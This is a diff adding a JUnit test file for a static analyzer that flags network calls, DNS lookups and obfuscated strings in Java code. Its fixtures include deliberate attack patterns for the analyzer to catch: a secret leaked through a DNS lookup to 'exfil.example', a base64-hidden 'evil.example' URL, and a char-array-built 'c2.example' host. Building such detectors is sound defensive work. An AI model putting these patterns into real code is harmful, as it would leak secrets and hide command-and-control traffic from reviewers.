@@ -1,0 +1,168 @@
+package dev.clearbox.analyzers.source;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.file.Path;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/** Network and DNS calls, their endpoints, and how their targets are resolved. */
+class NetworkFindingsTest {
+    @TempDir
+    Path root;
+
+    @Test
+    void httpClientSendFollowsTheRequestToAConstantInAnotherClass() {
+        SourceFixture.in(root)
+                .file("src/main/java/com/acme/config/Endpoints.java", """
+                        package com.acme.config;
+                        public final class Endpoints {
+                            public static final String BASE = "https://telemetry.example";
+                            public static final String COLLECT = BASE + "/v2/collect";
+                        }
+                        """)
+                .file("src/main/java/com/acme/app/Telemetry.java", """
+                        package com.acme.app;
+                        import com.acme.config.Endpoints;
+                        import java.net.URI;
+                        import java.net.http.HttpClient;
+                        import java.net.http.HttpRequest;
+                        import java.net.http.HttpResponse;
+                        class Telemetry {
+                            void send(String payload) throws Exception {
+                                HttpClient client = HttpClient.newHttpClient();
+                                HttpRequest request = HttpRequest.newBuilder(URI.create(Endpoints.COLLECT))
+                                        .POST(HttpRequest.BodyPublishers.ofString(payload)).build();
+                                client.send(request, HttpResponse.BodyHandlers.ofString()); // expect: NETWORK, endpoint=https://telemetry.example/v2/collect, resolution=symbol-solver, api=java.net.http.HttpClient#send
+                            }
+                        }
+                        """)
+                .verify();
+    }
+
+    @Test
+    void constructorsAndConcatenationsKeepTheConstantPrefix() {
+        SourceFixture.in(root)
+                .file("src/main/java/com/acme/Check.java", """
+                        package com.acme;
+                        import java.net.InetAddress;
+                        import java.net.Socket;
+                        import java.net.URL;
+                        class Check {
+                            void run(String id, String secret) throws Exception {
+                                new URL("https://updates.example/check?id=" + id).openStream(); // expect: NETWORK, endpoint=https://updates.example/check?id={…}
+                                Socket s = new Socket("10.1.2.3", 443); // expect: NETWORK, endpoint=10.1.2.3, api=java.net.Socket#<init>
+                                InetAddress.getByName(secret + ".exfil.example"); // expect: DNS, endpoint={…}.exfil.example
+                            }
+                        }
+                        """)
+                .verify();
+    }
+
+    @Test
+    void interfaceDispatchMatchesTheDeclaringSupertype() {
+        SourceFixture.in(root)
+                .file("Fetch.java", """
+                        import java.net.URL;
+                        import javax.net.ssl.HttpsURLConnection;
+                        class Fetch {
+                            byte[] fetch() throws Exception {
+                                String address = "https://cdn.example/blob";
+                                URL url = new URL(address);
+                                HttpsURLConnection c = (HttpsURLConnection) url.openConnection(); // expect: NETWORK, endpoint=https://cdn.example/blob
+                                return c.getInputStream().readAllBytes(); // expect: NETWORK, api=java.net.URLConnection#getInputStream, endpoint=https://cdn.example/blob
+                            }
+                        }
+                        """)
+                .verify();
+    }
+
+    @Test
+    void vendorSubclassOfSocketIsReportedThroughItsAncestor() {
+        SourceFixture.in(root)
+                .file("src/main/java/com/acme/Beacon.java", """
+                        package com.acme;
+                        class Beacon extends java.net.Socket {
+                            Beacon() throws Exception {
+                                super("beacon.example", 80); // expect: NETWORK, api=java.net.Socket#<init>, endpoint=beacon.example
+                            }
+                            static Beacon open() throws Exception {
+                                return new Beacon(); // expect: NETWORK, api=java.net.Socket#<init>, resolution=symbol-solver
+                            }
+                        }
+                        """)
+                .verify();
+    }
+
+    @Test
+    void clientLibrariesWithoutTheirJarsAreRecoveredFromImports() {
+        SourceAnalysisResult result = SourceFixture.in(root)
+                .file("src/main/java/com/acme/Upload.java", """
+                        package com.acme;
+                        import okhttp3.OkHttpClient;
+                        import okhttp3.Request;
+                        import org.springframework.web.client.*;
+                        class Upload {
+                            private final RestTemplate rest = new RestTemplate();
+                            void run() throws Exception {
+                                OkHttpClient client = new OkHttpClient();
+                                Request req = new Request.Builder().url("https://api.example/v1/upload").build();
+                                client.newCall(req).execute(); // expect: NETWORK, resolution=imports, api=okhttp3.OkHttpClient#newCall, endpoint=https://api.example/v1/upload
+                                rest.getForObject("https://rest.example/x", String.class); // expect: NETWORK, resolution=imports, endpoint=https://rest.example/x
+                            }
+                        }
+                        """)
+                .verify();
+        // The chained execute() has no known receiver type without the jar: it must be counted, not dropped.
+        assertEquals(1, result.coverage().unresolvedCallCount(), result.coverage().unresolvedCalls().toString());
+        SourceCoverage.UnresolvedCall call = result.coverage().unresolvedCalls().get(0);
+        assertEquals("src/main/java/com/acme/Upload.java", call.file());
+        assertEquals(10, call.line());
+        assertTrue(call.call().contains("execute()"), call.call());
+    }
+
+    @Test
+    void userClassNamedSocketAndUnrelatedSendAreNotReported() {
+        SourceFixture.in(root)
+                .file("src/main/java/com/acme/net/Socket.java", """
+                        package com.acme.net;
+                        public class Socket {
+                            public Socket(String host, int port) { }
+                            public void send(String text) { }
+                        }
+                        """)
+                .file("src/main/java/com/acme/app/Mailer.java", """
+                        package com.acme.app;
+                        import com.acme.net.Socket;
+                        import com.unknown.Outbox;
+                        class Mailer {
+                            void run(Outbox outbox) {
+                                Socket s = new Socket("evil.example", 25);
+                                s.send("hello");
+                                outbox.send("hello");
+                            }
+                        }
+                        """)
+                .verify();
+    }
+
+    @Test
+    void hiddenStringsAreReportedWithTheirDecodedText() {
+        SourceFixture.in(root)
+                .file("Hidden.java", """
+                        import java.net.URL;
+                        class Hidden {
+                            static final String A = "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw=="; // expect: HIDDEN_STRING, endpoint=https://evil.example/c
+                            void run() throws Exception {
+                                String host = new String(new char[] {'c', '2', '.', 'e', 'x', 'a', 'm', 'p', 'l', 'e'}); // expect: HIDDEN_STRING, endpoint=c2.example
+                                byte[] cmd = {99, 117, 114, 108};
+                                String tool = new String(new byte[] {99, 117, 114, 108}); // expect: HIDDEN_STRING
+                                new URL("https://" + host + "/x").openStream(); // expect: NETWORK, endpoint=https://c2.example/x
+                            }
+                        }
+                        """)
+                .verify();
+    }
+}
